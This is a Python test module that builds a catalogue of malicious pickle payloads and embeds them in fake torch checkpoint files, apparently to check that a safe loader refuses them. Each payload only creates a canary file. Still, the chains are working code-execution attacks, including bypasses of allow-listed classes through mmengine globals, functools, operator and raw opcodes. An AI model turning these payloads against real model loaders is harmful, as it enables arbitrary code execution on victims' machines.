"""Pickles that would run code if they were read as such: each leaves a canary when it does."""

from __future__ import annotations

import os
import pickle
import pickletools
import signal
import struct
import zipfile
from functools import partial
from pathlib import Path


def _call(module: str, name: str, *arguments: object, obj: bool = False) -> bytes:
    """The opcodes of a call of ``module.name``, by REDUCE or, with ``obj``, by OBJ."""
    body = b''.join(_value(argument) for argument in arguments)
    if obj:
        return b'(c' + f'{module}\n{name}\n'.encode() + body + b'o'
    return b'c' + f'{module}\n{name}\n'.encode() + b'(' + body + b't' + b'R'


def _value(value: object) -> bytes:
    if isinstance(value, bytes):  # opcodes already
        return value
    if isinstance(value, int):
        return b'I%d\n' % value
    text = str(value).encode()
    return b'X' + struct.pack('<I', len(text)) + text


def _attribute(owner: bytes, name: str) -> bytes:
    """The opcodes of ``getattr(owner, name)``."""
    return b'cbuiltins\ngetattr\n(' + owner + _value(name) + b'tR'


def _called(function: bytes, *arguments: object) -> bytes:
    """The opcodes of a call of what other opcodes leave."""
    return function + b'(' + b''.join(map(_value, arguments)) + b'tR'


def _method(owner: bytes, name: str, *arguments: object) -> bytes:
    """The opcodes of ``owner.name(*arguments)``."""
    return _called(_attribute(owner, name), *arguments)


def _bytes(value: bytes) -> bytes:
    """The opcodes of bytes."""
    return b'B' + struct.pack('<I', len(value)) + value


HARMLESS = {
    'persistent id': 'plain pickle knows none, and torch answers them itself',
    'torch extension': 'it is built from source, which takes a compiler and minutes',
    'torch.hub': 'it needs the network, or a hubconf.py on the disk',
}
"""Attacks that leave no canary where pickle reads them, and why; they are to be refused as well."""


def attacks(canary: Path) -> dict[str, bytes]:
    """Bodies of pickles, without PROTO and STOP, by name; each would write ``canary``."""
    shell = f'touch {canary}'
    code = f'open({str(canary)!r}, "w").close()'
    module = f'import os; os.system({shell!r})'
    builtin = partial(_call, 'builtins')
    listed = b'(' + _value('touch') + _value(str(canary)) + b'l'
    system = b'cos\nsystem\n'
    nested = b'\x80\x02' + _call('os', 'system', shell) + b'.'
    history = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
    its_globals = _attribute(_attribute(history, '__init__'), '__globals__')
    return {
        'os.system': _call('os', 'system', shell),
        'posix.system': _call('posix', 'system', shell),
        'os.popen': _call('os', 'popen', shell),
        'os.open': _call('os', 'open', str(canary), 65),
        'os.mkdir': _call('os', 'mkdir', str(canary)),
        'os.symlink': _call('os', 'symlink', '/', str(canary)),
        'os.execvp': _call('os', 'execvp', 'touch', listed),
        'subprocess.call': _call('subprocess', 'call', listed),
        'subprocess.Popen': _call('subprocess', 'Popen', listed),
        'subprocess.getoutput': _call('subprocess', 'getoutput', shell),
        'pty.spawn': _call('pty', 'spawn', listed),
        'eval': builtin('eval', code),
        'exec': builtin('exec', code),
        'compile and exec': builtin('exec', builtin('compile', code, '', 'exec')),
        'open': builtin('open', str(canary), 'w'),
        '__import__': _method(builtin('__import__', 'os'), 'system', shell),
        'getattr of os': _method(_attribute(b'cos\npath\n', 'os'), 'system', shell),
        'getattr of an allowed class': _called(
            _method(_attribute(_attribute(history, '__init__'), '__builtins__'), 'get', 'exec'),
            code,
        ),
        'getattr of its globals': _called(
            _method(_method(its_globals, 'get', '__builtins__'), 'get', 'exec'), code
        ),
        'importlib': _method(_call('importlib', 'import_module', 'os'), 'system', shell),
        'runpy': _call('runpy', '_run_code', builtin('compile', module, '', 'exec'), b'}'),
        'timeit': _call('timeit', 'timeit', 'pass', module),
        'cProfile': _call('cProfile', 'run', module),
        'bdb': _method(_call('bdb', 'Bdb'), 'run', module),
        'code': _method(_call('code', 'InteractiveInterpreter'), 'runsource', module),
        'ctypes': _method(_call('ctypes', 'CDLL', b'N'), 'system', _bytes(shell.encode())),
        'shutil.copy': _call('shutil', 'copy', '/etc/hostname', str(canary)),
        'pathlib touch': _method(_call('pathlib', 'PosixPath', str(canary)), 'touch'),
        'numpy.save': _call('numpy', 'save', str(canary), 1),
        'numpy.loadtxt': _call('numpy.testing._private.utils', 'runstring', module, b'}'),
        'torch.save': _call('torch', 'save', 1, str(canary)),
        'torch.load': _call(
            'torch.serialization',
            'load',
            _call('io', 'BytesIO', _bytes(nested)),
            b'N',
            b'ctorch.serialization\npickle\n',
        ),
        'torch.hub': _call('torch.hub', 'load', str(canary.parent), 'x'),
        'torch extension': _call('torch.utils.cpp_extension', 'load_inline', 'x', code),
        'storage of bytes': _call('torch.storage', '_load_from_bytes', _bytes(nested)),
        'mmengine config': _method(b'cmmengine.config\nConfig\n', 'fromstring', code, '.py'),
        'functools.partial': _called(_call('functools', 'partial', system, shell)),
        'operator': _called(
            _call('operator', 'methodcaller', 'system', shell), b'cposixpath\nos\n'
        ),
        'map': builtin('list', builtin('map', system, b'(' + _value(shell) + b'l')),
        'defaultdict': _method(
            _call('collections', 'defaultdict', _call('functools', 'partial', system, shell)),
            '__missing__',
            'x',
        ),
        'INST': b'(' + _value(shell) + b'ios\nsystem\n',
        'OBJ': _call('os', 'system', shell, obj=True),
        'NEWOBJ': b'cbuiltins\ntuple\n(cbuiltins\nmap\n('
        + system
        + b'('
        + _value(shell)
        + b'lt\x81t\x81',
        'STACK_GLOBAL': _value('os') + _value('system') + b'\x93(' + _value(shell) + b'tR',
        'EXT1': _call('copyreg', 'add_extension', 'os', 'system', 1)
        + b'0'
        + _called(b'\x82\x01', shell),
        'BUILD of a state': history
        + b'(tR}'
        + _value('__setstate__')
        + system
        + b'sb'
        + _value(shell)
        + b'b',
        'persistent id': _value(f'storage {canary}') + b'Q',
    }


def has_run(canary: Path) -> bool:
    """Whether an attack has left its canary; some readers add an ending to its name."""
    return any(canary.parent.glob(f'{canary.name}*'))


def canary_of(name: str, folder: Path) -> Path:
    """Where `read_all` lets an attack leave its canary."""
    return folder / f'canary{sorted(attacks(folder)).index(name)}_'


def read_all(rank: int, folder: str) -> None:
    """Let plain pickle read every attack, each in a fork of this process that has two seconds."""
    for name in attacks(Path(folder)):
        body = attacks(canary_of(name, Path(folder)))[name]
        if os.fork() == 0:
            os.close(1), os.close(2), signal.alarm(2)
            try:
                pickle.loads(b'\x80\x02' + body + b'.')
            finally:
                os._exit(0)
    for _ in attacks(Path(folder)):
        os.wait()


FORMS = ('archive', 'pickle', 'legacy')


def write(body: bytes, form: str, path: Path) -> None:
    """A checkpoint file whose pickle has a body beside a harmless entry."""
    content = b'\x80\x02}(' + _value('state_dict') + b'}' + _value('x') + body + b'u.'
    if form == 'pickle':
        path.write_bytes(content)
    elif form == 'legacy':
        head = (pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {}))
        path.write_bytes(b''.join(head) + content + pickle.dumps([], 2))
    else:
        with zipfile.ZipFile(path, 'w') as archive:
            archive.writestr('a/data.pkl', content)
            archive.writestr('a/byteorder', b'little')
            archive.writestr('a/version', b'3\n')


def is_pickle(body: bytes) -> bool:
    """Whether a body is made of opcodes that pickle knows, up to its end."""
    try:
        return list(pickletools.genops(b'\x80\x02' + body + b'.'))[-1][0].name == 'STOP'
    except ValueError:
        return False
